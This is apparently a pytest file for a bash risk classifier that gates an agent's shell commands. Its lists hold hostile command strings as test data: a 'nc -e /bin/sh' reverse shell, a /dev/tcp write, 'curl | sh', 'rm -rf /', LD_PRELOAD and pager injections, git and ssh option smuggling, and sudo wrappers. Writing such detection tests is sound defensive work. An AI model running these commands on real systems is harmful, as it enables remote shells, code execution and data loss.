"""The bash risk classifier: evasions never come out read-only, everyday reads do, the
riskiest part decides, writes name their paths, privileged is always privileged."""

from __future__ import annotations

import subprocess
import sys

import pytest

from corral.toolguard.classify import (
    DYNAMIC,
    NETWORK,
    PRIVILEGED,
    READ_ONLY,
    RISK,
    WRITES,
    Classification,
    classify,
)

# Each must never be read-only. Grouped by family; the comment says why each one matters.
EVASIONS = [
    # redirections and here-documents into files
    "echo hi > f",
    "echo hi >> f",
    "ls &> f",
    "ls &>> f",
    "ls >| f",
    "ls <> f",
    "ls 2> err.log",
    "ls >& f",
    'ls > "$f"',
    "cat <<EOF > f\nhi\nEOF",
    "cat <<'EOF' > f\nhi $(id)\nEOF",
    "{ ls; } > f",
    "while read l; do echo $l; done < in > out",
    "echo x > /dev/tcp/10.0.0.1/80",
    "ls > /dev/$x",  # may be /dev/tcp/...
    'while read l; do echo "$l"; done < "$f"',
    "cat <<END; rm x\nhi\nEND",  # a command after the here-document operator
    "ls \\\n; rm x",  # a line continuation
    "/usr/bin/time -o out ls",
    # read-only tools given options that write
    "ls | tee out.txt",
    "sed -i s/a/b/ f",
    "sed -ni p f",  # -i inside a bundle
    "sed -ie s/a/b/ f",  # -i with suffix "e", not -e
    "sed --in-place=.bak s/a/b/ f",
    "sed --in s/a/b/ f",  # abbreviated long option
    "sort -o out f",
    "sort f -o out",  # GNU permutes options after operands
    "sort --out=out f",
    "uniq in out",
    "tree -o out.txt",
    "find . -delete",
    "find . -fprint out",
    "awk '{print > \"out\"}' f",
    "sed 's/a/b/w out' f",
    "sed -n '/x/w out' f",
    "xxd in out",
    "shuf -o out f",
    "git log --output=x",
    "date -s 2020-01-01",
    "file -C -m magic",
    # read-only tools given options that run programs
    "find . -exec rm {} \\;",
    "find . -execdir sh -c x \\;",
    "find . -ok rm {} \\;",
    "find . -okdir rm {} +",
    "find $X",  # may expand to -delete
    "find . -name x $EXTRA",
    "ls | xargs rm",
    "xargs -0 cat",
    "awk 'BEGIN{system(\"id\")}'",
    "awk '{print | \"sh\"}'",
    "awk 'BEGIN { while ((\"ls\" | getline l) > 0) print l }'",
    "awk '{print |& \"cmd\"}'",
    "awk '{print $1 > $2}' f",  # a computed output file
    "awk -f prog.awk f",
    "gawk -i inplace '{}' f",
    "awk '@load \"x\"; BEGIN{}'",
    "awk 'BEGIN{getline < \"/inet/tcp/0/h/80\"}'",
    'awk "$PROG" f',
    "sed -n 'e id' f",
    "sed 's/x/id/e' f",
    "sed '1e id' f",
    "sed -f script.sed f",
    'sed "$S" f',
    "sed 'q;e id' f",  # q's optional number must not swallow the next command
    "sed 's/[/]/x/;e id' f",  # a bracket in the regex holds the delimiter
    "rg --pre cat x",
    "rg --pre=cat x",
    "rg foo *",  # a file named --pre=sh
    "rg --hostname-bin=x foo",
    "fd -x rm",
    "fd . --exec-batch rm",
    "sort --compress-program=sh f",
    "git -c core.pager=sh log",
    "git --config-env=core.pager=X log",
    "git --exec-path=/tmp log",
    "git diff --ext-diff",
    "git diff --textconv",
    "git grep -O foo",
    "git grep --open-files-in-pager=vim foo",
    "git lol",  # an alias may be !shell code
    "git $SUB",
    "git log $OPTS",
    "git rebase -x make main",
    "git bisect run ./t.sh",
    "git submodule foreach rm x",
    "git config --edit",
    "git clone --upload-pack='sh -c id' /tmp/r x",  # runs locally for a local "remote"
    "git fetch ext::sh",
    "git push --receive-pack=x",
    "git -ccore.pager=sh log",
    "tar --checkpoint-action=exec=sh -cf x .",
    "tar -xf a.tar --to-command=sh",
    "tar -I 'sh -c id' -xf a",
    "tar --use-compress-program=sh -xf a",
    "tar -tf a.tar --to-command sh",
    "less f",
    "more f",
    "man ls",
    "vim f",
    "nvim f",
    "emacs f",
    "watch ls",
    "printf -v 'a[$(id)]' x",
    "test -v 'a[$(id)]'",
    "[ $x ]",  # x='-v a[$(id)]' runs id
    "read 'a[$(id)]' <<< 1",
    'declare "a[$i]=1"',
    "let x=1",
    "declare -i n",  # n='a[$(id)]' later runs id
    "declare -n ref=x",
    "((i=x))",  # bashlex reads this as subshells; bash evaluates x
    "ls#$(id)",  # not a comment: # inside a word
    # environment that changes what runs
    "PAGER=sh git log",
    "GIT_EXTERNAL_DIFF=x git diff",
    "GIT_PAGER=sh git log",
    "LD_PRELOAD=x ls",
    "LD_LIBRARY_PATH=x ls",
    "BASH_ENV=x ls",
    "ENV=x ls",
    "PROMPT_COMMAND=x ls",
    "PS4='$(id)' ls",
    "SHELLOPTS=xtrace ls",
    "IFS=x ls",
    "PATH=/tmp ls",
    "PYTHONPATH=x ls",
    "PYTHONSTARTUP=x ls",
    "NODE_OPTIONS=x ls",
    "EDITOR=x ls",
    "VISUAL=x ls",
    "HOME=/tmp/x git log",  # a .gitconfig with core.pager
    "RIPGREP_CONFIG_PATH=x rg foo",
    "TAR_OPTIONS=--to-command=sh tar -tf a",
    "LESSOPEN='|x %s' less f",
    "env PAGER=sh git log",
    "export PATH=/tmp; ls",
    "PATH=/tmp; ls",
    "for PATH in /tmp; do ls; done",
    # the command name is not static
    "$(echo rm) -rf /",
    "`echo rm` x",
    "`id`",
    "$'\\x72m' -rf x",
    "{rm,-rf,x}",
    "$CMD x",
    "${CMD} x",
    '"$CMD" x',
    "r$@m x",
    "/tmp/ls",
    "./ls",
    "~/bin/ls",
    "l? x",
    "*",
    # shell code run by the shell itself
    "eval ls",
    'eval "$X"',
    "source x",
    ". x",
    "exec ls",
    "command ls",
    "builtin echo",
    "trap 'rm x' EXIT",
    "alias ls='rm -rf'",
    "hash -p /tmp/x ls",
    # shells and interpreters
    "bash -c 'ls'",
    "sh -c ls",
    "sh < script",
    "bash script.sh",
    "bash",
    "zsh -c x",
    "dash -c x",
    "bash -lc x",
    "bash <<EOF\nls\nEOF",
    "echo ls | sh",
    "python3 -c 'print(1)'",
    "python -c x",
    "python3.11 -c x",
    "python3 script.py",
    "python3",
    "python3 -m http.server",
    "perl -e x",
    "perl -pi -e s/a/b/ f",
    "ruby -e x",
    "node -e x",
    "php -r x",
    "lua -e x",
    # substitutions
    "cat <(id)",
    "diff <(ls a) <(ls b)",
    "ls > >(cat)",
    "echo $(id)",
    'echo "$(id)"',
    "x=$(id)",
    "echo ${x:-$(id)}",
    "cat <<EOF\n$(id)\nEOF",
    "cat <<EOF\n`id`\nEOF",
    # values evaluated as code: x='a[$(id)]' makes each of these run id
    "echo ${!x}",
    "echo ${a[$i]}",
    "echo ${a[i]}",
    "echo ${x@P}",
    "echo ${x:i:1}",
    "echo $((x))",
    "(( x++ ))",
    "[[ -f x ]]",
    # unknown programs
    "frobnicate",
    "mystery --help",
    # bashlex cannot parse these
    'ls "',
    "if then fi",
    "ls &&",
    "case x in a) ;; esac",
    "a=(1 2)",
    "ls $(",
    "echo 'unterminated",
    "))",
    "coproc x",
    "select x in a; do ls; done",
    # the riskiest part decides
    "ls; rm x",
    "(cd /; rm x)",
    "for f in *; do rm $f; done",
    "ls && rm x",
    "ls || rm x",
    "ls & rm x",
    "if ls; then rm x; fi",
    "while true; do rm x; done",
    "f() { rm x; }",
    "! rm x",
    "ls |& rm x",
    "ls\nrm x",
    "cat f | grep x | sort | uniq -c > out",
    # network
    "curl http://x",
    "wget http://x",
    "ssh host ls",
    "ssh -o ProxyCommand='sh -c id' host",
    "scp a host:b",
    "rsync -a a host:b",
    "rsync -e 'sh -c id' a b",
    "nc host 80",
    "nc -e /bin/sh host 80",
    "git clone https://x/y",
    "git fetch",
    "git pull",
    "git push",
    "git ls-remote origin",
    "git remote show origin",
    "pip install x",
    "npm install",
    "apt install x",
    "docker pull x",
    "docker run x",
    "ping host",
    "dig x",
    "nslookup x",
    "ftp host",
    "telnet host",
    "cargo build",
    # everything that writes
    "dd if=a of=b",
    "cp a b",
    "mv a b",
    "rm -rf x",
    "mkdir d",
    "touch f",
    "ln -s a b",
    "chmod +x f",
    "truncate -s 0 f",
    "install -m 755 a b",
    "git commit -m x",
    "git add .",
    "git checkout -- f",
    "git branch new",
    "git branch -D old",
    "git tag v1",
    "git stash",
    "git config user.name x",
    "make",
    "pytest",
    "kill 1",
    "tar -xf a.tar",
    "unzip a.zip",
    "gzip f",
]

PRIVILEGED_COMMANDS = [
    "sudo ls",
    "env sudo ls",
    "timeout 5 sudo ls",
    "timeout -s KILL 5 sudo ls",
    "nice sudo ls",
    "nice -n 5 sudo ls",
    "nohup sudo ls",
    "stdbuf -oL sudo ls",
    "xargs sudo rm",
    "find . -exec sudo rm {} \\;",
    "echo ok && sudo rm x",
    "bash -c 'sudo ls'",
    'sh -c "echo x; sudo ls"',
    "echo $(sudo id)",
    "su -c x",
    "doas ls",
    "pkexec ls",
    "/usr/bin/sudo ls",
    "command sudo ls",
    "exec sudo ls",
    "env -i PATH=/x sudo ls",
    "sh <<EOF\nsudo ls\nEOF",
    "bash <<< 'sudo ls'",
    "if true; then sudo ls; fi",
    "f() { sudo ls; }",
    "(sudo ls)",
    "ls | sudo tee f",
    "watch sudo ls",
    "eval sudo ls",
    "env -S 'sudo ls'",
    "sudo -u root ls",
    "trap 'sudo ls' EXIT",
    "PAGER=sh sudo ls",
    "cat <(sudo id)",
    "/bin/../usr/bin/sudo ls",
    "/tmp/sudo ls",
    "fd -x sudo rm",
    "[[ -f x ]] && sudo rm y",  # bashlex cannot parse [[; the word sudo still counts
    'ls "; sudo ls',
]

EVERYDAY_READS = [
    "ls -la",
    "ls",
    "cat README.md",
    "grep -rn foo src",
    "grep -rn 'foo bar' src --include='*.py'",
    "rg foo",
    "rg -n 'def \\w+' python",
    "find . -name '*.py'",
    "find . -type f -name '*.lua' -not -path './.git/*'",
    "find src -maxdepth 2 -type d",
    'find . -name "$pattern"',
    "find . -newer f -print0",
    "git log --oneline -5",
    "git status",
    "git status --short",
    "git diff HEAD~1",
    "git diff --stat",
    "git diff --no-ext-diff",
    "git diff --name-only main...HEAD",
    "git show HEAD",
    "git show HEAD:README.md",
    "git show --stat HEAD",
    "git branch",
    "git branch -a",
    "git branch --contains HEAD",
    "git rev-parse --show-toplevel",
    "git ls-files",
    "git blame f",
    "git grep foo",
    "git log --oneline -- sub",
    "git log -p --follow f",
    "git log --format='%h %s' -n 3",
    "git config --get user.name",
    "git config user.name",
    "git remote -v",
    "git tag",
    "git stash list",
    "git worktree list",
    "git --version",
    "head -20 f",
    "tail -n 50 log.txt",
    "wc -l f",
    "ls | wc -l",
    "cat f | grep x | sort | uniq -c",
    "cat f | sort | uniq -c | sort -rn | head",
    "echo hi",
    "echo $HOME",
    "pwd",
    "stat f",
    "du -sh .",
    "df -h",
    "file f",
    "tree -L 2",
    "which python3",
    "type ls",
    "date",
    "date +%Y",
    "env",
    "printenv PATH",
    "basename /a/b",
    "dirname /a/b",
    "realpath f",
    "readlink -f f",
    "diff a b",
    "cmp a b",
    "comm a b",
    "true",
    "false",
    "test -f x",
    "[ -f x ] && echo yes",
    '[ -f "$f" ]',
    "jq .name package.json",
    "awk '{print $1}' f",
    "awk -F: '$3 > 1000 {print $1}' /etc/passwd",
    "awk '/a|b/ {n++} END {print n}' f",
    "awk '{ s += $2 } END { print s / NR }' f",
    "awk '{ if ($1 > 5) print }' f",
    "awk 'NR==1' f",
    "awk -v x=1 '{print x}' f",
    "awk '{print $NF > \"/dev/stderr\"}' f",
    "sed -n '1,10p' f",
    "sed 's/foo/bar/g' f",
    "sed -n '/start/,/end/p' f",
    "sed -n 's/a/b/p' f",
    "sed '/^#/d' f",
    "sed 'y/abc/xyz/' f",
    "sed -E 's/([a-z]+)/\\1/g' f",
    "sed 's/[/]/x/' f",
    "sed '$!N;s/\\n/ /' f",
    "sed -e 's/a/b/' -e '/x/d' f",
    "sed '1i hello world' f",
    "cut -d: -f1 /etc/passwd",
    "tr a-z A-Z < f",
    "sort f",
    "sort -k2 -n f",
    "sort -t: -k3 -n /etc/passwd",
    "uniq -c f",
    "cat f 2>/dev/null",
    "ls > /dev/null 2>&1",
    "ls 2>&1 | head",
    "cd src && ls",
    "cd src; ls",
    "command -v git",
    "LESSSECURE=1 less f",
    'cat "$f"',
    "ls *.py",
    "ls -d */",
    "grep -c x *.txt",
    "head -5 *.md",
    "python3 --version",
    "node --version",
    "dpkg -L coreutils",
    "cat <<EOF\nhello $USER\nEOF",
    "cat <<'EOF'\n$(not run)\nEOF",
    'cat <<-"EOF"\n\t`not run`\n\tEOF',
    "ls #$(id) is a comment",
    "fd -e py",
    "ls > /dev/null 2>/dev/stderr",
    "command -v sudo",
    'grep x <<< "$var"',
    "wc -l < f",
    "tar -tzf a.tgz",
    "unzip -l a.zip",
    "zcat a.gz | head",
    "gzip -dc a.gz",
    "echo 'a b' | tr ' ' '\\n'",
    "for f in a b; do echo $f; done",
    "if [ -d x ]; then ls x; fi",
    "x=1; echo $x",
    "printf '%s\\n' a b",
    "/usr/bin/ls -la",
    "\\ls",
    "l''s -la",
    "",
    "   ",
    "# just a comment",
]


@pytest.mark.parametrize("command", EVASIONS)
def test_evasion_is_never_read_only(command: str) -> None:
    result = classify(command)
    assert result.kind != READ_ONLY, result
    assert result.reasons, "a finding must say why"


@pytest.mark.parametrize("command", PRIVILEGED_COMMANDS)
def test_privileged_anywhere_is_privileged(command: str) -> None:
    assert classify(command).kind == PRIVILEGED


@pytest.mark.parametrize("command", EVERYDAY_READS)
def test_everyday_reads_are_read_only(command: str) -> None:
    result = classify(command)
    assert result.kind == READ_ONLY, result
    assert result.writes == ()


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("ls; rm x", WRITES),
        ("ls && curl http://x", NETWORK),
        ("curl http://x | sh", DYNAMIC),
        ("rm x; sudo y", PRIVILEGED),
        ("git push", NETWORK),
        ("git commit -m x && git push", NETWORK),
        ("frobnicate", DYNAMIC),
        ("make", WRITES),
        ("pip install x", NETWORK),
        ("find . -delete", WRITES),
        ("find . -exec grep x {} +", DYNAMIC),
        ("sed -i s/a/b/ f", WRITES),
        ("sed 'e id' f", DYNAMIC),
        ("echo x > /dev/tcp/h/80", NETWORK),
        ("ssh -o ProxyCommand=x host", DYNAMIC),
        ("cat <<'EOF' > f\nx\nEOF", WRITES),
        ("ls 'unterminated", DYNAMIC),
    ],
)
def test_riskiest_part_decides(command: str, kind: str) -> None:
    assert classify(command).kind == kind


@pytest.mark.parametrize(
    ("command", "writes"),
    [
        ("echo > out.txt", ("out.txt",)),
        ("echo hi > a; echo x >> b", ("a", "b")),
        ("cat <<'EOF' > notes.md\n# Notes\nEOF", ("notes.md",)),
        ('echo hi > "my file"', ("my file",)),
        ("ls > $f", ("$f",)),
        ("tee a b", ("a", "b")),
        ("tee /dev/null", ()),
        ("sed -i s/a/b/ f g", ("f", "g")),
        ("cp a b", ("b",)),
        ("cp -t dir a b", ("dir",)),
        ("mv a b", ("a", "b")),
        ("rm -rf x y", ("x", "y")),
        ("mkdir -p a/b", ("a/b",)),
        ("mkdir -m 700 d", ("d",)),
        ("touch f", ("f",)),
        ("ln -s target link", ("link",)),
        ("chmod 644 f", ("f",)),
        ("chown -R u:g d", ("d",)),
        ("dd if=a of=b", ("b",)),
        ("sort -o o f", ("o",)),
        ("uniq a b", ("b",)),
        ("sed 's/a/b/w out' f", ("out",)),
        ("awk '{print > \"o.txt\"}' f", ("o.txt",)),
        ("find . -delete", (".",)),
        ("find src build -name '*.o' -delete", ("src", "build")),
        ("git log --output=x", ("x",)),
        ("curl -o page.html http://x", ("page.html",)),
        ("tar -czf out.tgz src", ("out.tgz",)),
        ("tar czf out.tgz src", ("out.tgz",)),
        ("echo $(id) > f", ("f",)),
        ("ls 2>/dev/null >/dev/stderr", ()),
    ],
)
def test_writes_name_their_paths(command: str, writes: tuple[str, ...]) -> None:
    assert classify(command).writes == writes


def test_reasons_say_what_was_found() -> None:
    assert "redirection writes out.txt" in classify("echo > out.txt").reasons
    assert "command substitution: $(id) cannot be analysed" in classify("echo $(id)").reasons
    assert any("sudo" in r for r in classify("ls && sudo x").reasons)
    assert any("cannot parse" in r for r in classify('ls "').reasons)


def test_commands_are_listed_in_order() -> None:
    assert classify("cat f | grep x | sort").commands == ("cat", "grep", "sort")
    assert classify("sudo ls").commands == ("sudo", "ls")
    assert classify("timeout 5 rm x").commands == ("timeout", "rm")
    assert classify("$'\\x72m' x").commands == ("$'\\x72m'",)


def test_result_is_immutable() -> None:
    result = classify("ls")
    assert isinstance(result, Classification)
    with pytest.raises(AttributeError):
        result.kind = WRITES  # type: ignore[misc]
    assert result.kind in RISK


def test_results_are_cached() -> None:
    classify.cache_clear()
    first = classify("git status --porcelain")
    again = classify("git status --porcelain")
    assert first is again
    info = classify.cache_info()
    assert info.hits >= 1
    assert info.maxsize == 4096


@pytest.mark.parametrize(
    "command",
    ["\x00", "\\", "$(", "'" * 1001, "<<" * 50, "${" * 40, "((((((((((", "\n" * 10, "x" * 2000],
)
def test_never_raises(command: str) -> None:
    assert classify(command).kind in RISK


def test_too_long_is_dynamic() -> None:
    assert classify("ls " + "a" * 300_000).kind == DYNAMIC


def test_deep_nesting_is_bounded() -> None:
    # Each eval parses its arguments again as shell code.
    result = classify("eval " * 20 + "sudo ls")
    assert result.kind == DYNAMIC
    assert any("nested too deeply" in r for r in result.reasons)
    assert classify("eval " * 5 + "sudo ls").kind == PRIVILEGED


def test_import_is_light() -> None:
    # bashlex and the rules load on the first classification, not on import.
    code = "import sys, corral.toolguard.classify; print('bashlex' in sys.modules)"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "False"


def test_a_timed_pipeline_is_the_pipeline() -> None:
    """r90a TIMEPREFIX: bash's `time` keyword, which bashlex cannot parse, made the whole
    command dynamic, and `time rm -rf build` was told nothing of what it deletes."""
    assert classify("time ls").kind == READ_ONLY
    assert classify("time -p git clean -fdx").destroys
    assert classify("time").kind == DYNAMIC  # (nothing timed: still unparsed)
    # (bash's blanks only: U+00A0 makes "\xa0time" a word, not the keyword, r91c)
    assert classify("\xa0time ls").kind == DYNAMIC


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf build", "rm -fr x", "rm -R x", "rm --recursive x", "rm -f *", "rm -- *.o",
        "rm $files", "rm -r$x b", "xargs rm", "xargs rm -rf", "find . -exec rm -f {} +",
        "find . -delete", "sh -c 'rm -rf x'", "time rm -rf build", "git clean -fdx",
        "git -c a=b clean -fdx", "git reset --hard", "git checkout -- .", "git checkout .",
        "git checkout -f main", "git switch --discard-changes main", "git restore .",
        "git stash drop", "git stash clear", "git rm -r src", "git worktree remove --force w",
        # what cannot be read fails closed (r91c WIPEUNPARSED)
        "true; time rm -rf build", "sh -c 'time rm -rf build'", 'ls "',
    ],
)  # fmt: skip
def test_what_discards_work_wholesale_is_told(command: str) -> None:
    """r89 audit C8, r90a DISCARDVIACHECKOUT, FINDEXECRM, GITOPTSKIPS, RMGLOBSTAR, RMDYNOPT:
    with direct writes these are asked about (see the guard)."""
    assert classify(command).destroys, command


@pytest.mark.parametrize(
    "command",
    [
        "rm a.o", 'rm "a b"', "git clean -n", "git reset HEAD~1", "git checkout main",
        "git switch main", "git restore --staged a", "git rm a", "git stash list",
        "git clean -xn", "git clean -n -x",
        "git worktree remove w", "find . -name x", "ls -R",
    ],
)  # fmt: skip
def test_what_removes_named_files_alone_is_not(command: str) -> None:
    assert not classify(command).destroys, command
